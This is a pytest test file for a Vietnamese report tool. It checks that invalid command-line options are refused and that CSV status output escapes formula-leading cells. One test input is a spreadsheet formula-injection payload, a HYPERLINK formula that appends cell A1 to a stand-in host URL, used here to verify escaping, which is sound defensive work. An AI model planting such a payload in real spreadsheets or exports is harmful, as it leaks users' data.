"""Hostile corpus: options a careless user types. Each is a usage error (exit 2) naming
the option, checked by the library before anything is read or written — never a
report for a nonsensical period, never an internal error, never a wait without end.
Also: what `status --format csv` hands to a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import pytest

from baocao import api
from baocao.console import csv_cell
from baocao.errors import OptionError
from baocao.lock import workspace_lock
from hostile import edit, refused, run


@pytest.mark.parametrize("command", ["compile", "status"])
@pytest.mark.parametrize(
    ("year", "shown"),
    [("2022", "2022"), ("2020", "2020"), ("0", "0"), ("-1", "-1"), (str(10**20), "100000…")],
)
def test_year_that_is_not_the_plans(ws: Path, command: str, year: str, shown: str) -> None:
    # Was: --year 2022 on a 2021 plan reported 2021's send dates as "đúng hạn" in 2022;
    # --year 0 or 10**20 was an internal error (exit 70).
    problems = refused([command, "-w", "ws", "--year", year], [("E802", "--year", None, None)], 2)
    assert problems[0]["message"] == (
        f"năm {shown} không có trong kế hoạch: kế hoạch là năm 2021, nhật ký trong thư mục 2021/"
    )


def test_plans_own_year_is_accepted(ws: Path) -> None:
    assert run("compile", "-w", "ws", "--year", "2021", "-q").exit_code == 0


def test_from_after_to(ws: Path) -> None:
    # Was a report for "01/06–01/01".
    args = ["compile", "-w", "ws", "--from", "2021-06-01", "--to", "2021-01-01"]
    problems = refused(args, [("E801", "--from", None, None)], 2)
    assert problems[0]["message"] == (
        "ngày bắt đầu 01/06/2021 sau ngày kết thúc 01/01/2021 (--from phải trước hoặc bằng --to)"
    )


def test_from_after_the_plans_own_end(ws: Path) -> None:
    args = ["compile", "-w", "ws", "--from", "2021-07-01"]  # the 6-month window ends 30/06
    refused(args, [("E801", "--from", None, None)], 2)


@pytest.mark.parametrize(
    ("option", "value", "shown"),
    [
        ("--date", "0001-01-01", "01/01/0001"),
        ("--from", "9999-01-01", "01/01/9999"),
        ("--to", "1899-12-31", "31/12/1899"),
    ],
)
def test_dates_far_from_any_plan(ws: Path, option: str, value: str, shown: str) -> None:
    problems = refused(["compile", "-w", "ws", option, value], [("E805", option, None, None)], 2)
    assert problems[0]["message"] == f"ngày {shown} có năm nằm ngoài khoảng 1900–2100"


def test_as_of_far_from_any_plan(ws: Path) -> None:
    args = ["status", "-w", "ws", "--as-of", "0001-01-01"]
    refused(args, [("E805", "--as-of", None, None)], 2)


@pytest.mark.parametrize("wait", ["nan", "inf", "-inf", "-1", "1e9", "86401"])
def test_wait_that_is_not_a_number_of_seconds(ws: Path, wait: str) -> None:
    # "--wait nan" waited forever while another run held the workspace.
    started = time.monotonic()
    with workspace_lock(ws):
        problems = refused(
            ["compile", "-w", "ws", "--wait", wait], [("E803", "--wait", None, None)], 2
        )
    assert problems[0]["message"] == (
        f"{float(wait)} không phải một số hợp lệ: cần một số từ 0 đến 86400"
    )
    assert time.monotonic() - started < 30  # a hang guard: refused before any waiting


@pytest.mark.parametrize("wait", [float("nan"), float("inf"), -1.0])
def test_wait_checked_by_the_library(ws: Path, wait: float) -> None:
    for call in (api.compile_report, api.compile_all):
        with pytest.raises(OptionError) as info:
            call(ws, wait=wait)
        assert info.value.problems[0].code == "E803"


def test_output_name_too_long(ws: Path) -> None:
    name = "b" * 300 + ".docx"
    problems = refused(["compile", "-w", "ws", "-o", name], [("E804", "--output", None, None)], 2)
    assert problems[0]["message"] == f"tên tệp quá dài (305 byte, tối đa 241): {'b' * 40}…"


# --- what a spreadsheet reads from status --format csv -------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x.invalid/?d="&A1;"Bấm vào đây")',
        "+84 912 345 678",
        "-1+2",
        "@SUM(A1:A9)",
    ],
)
def test_unit_name_read_as_a_formula_is_escaped(ws: Path, name: str) -> None:
    edit(
        ws / "ke-hoach.yaml", "ten: UBND xã An Bình", f"ten: {json.dumps(name, ensure_ascii=False)}"
    )
    result = run("status", "-w", "ws", "--format", "csv", "--as-of", "2021-06-01")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:2] == ["xa-an-binh", "'" + name]
    assert rows[2][1] == "UBND xã Tân Hòa"  # ordinary text stays as it is


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Xã =", "Xã ="), (5, 5), ("", "")],
)
def test_csv_cells_that_would_start_a_formula(cell: object, shown: object) -> None:
    assert csv_cell(cell) == shown
